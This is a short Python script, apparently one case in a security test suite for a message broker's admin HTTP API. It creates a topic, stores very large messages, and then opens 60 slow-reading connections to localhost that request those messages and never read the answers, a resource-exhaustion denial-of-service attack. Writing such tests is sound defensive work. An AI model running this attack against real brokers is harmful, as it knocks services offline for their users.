"""Large messages are asked for by clients that never read the answer."""

from __future__ import annotations

import socket
import time

from target import OWN, Target, path_of

TOPIC = f"{OWN}-stalled"
MIB = 1 << 20
_CLIENTS = 60
_SECONDS = 10.0


def attack(target: Target) -> None:
    target.ask("PUT", f"/admin/v2/{path_of(TOPIC)}", "a-admin")
    target.ask("PUT", f"/admin/v2/{path_of(TOPIC)}/subscription/s", "a-user")
    target.store_bombs(TOPIC, 60 * MIB, 8 * MIB, MIB)
    stalled = []
    for number in range(_CLIENTS):
        one = socket.socket()
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        one.connect(("127.0.0.1", target.http_port))
        path = f"/admin/v2/{path_of(TOPIC)}/subscription/s/position/{number % 3 + 1}"
        proof = target.bearer("a-user")["Authorization"]
        one.sendall(f"GET {path} HTTP/1.1\r\nHost: broker\r\nAuthorization: {proof}\r\n\r\n".encode())
        stalled.append(one)
    time.sleep(_SECONDS)
    for one in stalled:
        one.close()
